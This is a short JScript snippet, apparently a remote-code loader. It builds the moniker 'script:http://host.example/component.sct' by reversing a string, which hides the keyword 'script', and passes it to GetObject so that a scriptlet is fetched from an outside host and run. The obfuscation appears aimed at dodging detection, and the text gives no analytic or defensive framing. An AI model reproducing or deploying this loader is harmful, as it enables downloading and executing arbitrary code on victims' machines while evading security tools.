var name = "tpircs".split("").reverse().join("") + ":" + "http" + "://host.example/component.sct";
GetObject(name);
